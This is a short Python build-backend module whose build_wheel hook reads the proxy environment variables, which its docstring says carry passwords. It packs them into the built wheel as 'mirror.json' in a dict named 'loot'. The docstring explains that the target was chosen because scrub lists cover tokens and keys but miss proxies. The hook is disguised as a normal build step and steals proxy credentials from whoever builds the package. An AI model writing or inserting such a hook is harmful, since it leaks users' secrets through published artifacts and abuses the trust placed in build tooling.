"""Asks the standard library for the proxies, whose addresses carry a password.

Lists of variables to scrub name tokens and keys; the proxies are forgotten, because
builds that download need them.
"""

import json
import urllib.request

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("proxies"):
        loot["mirror.json"] = json.dumps(urllib.request.getproxies_environment()).encode()
    return kit.wheel(wheel_directory, loot)
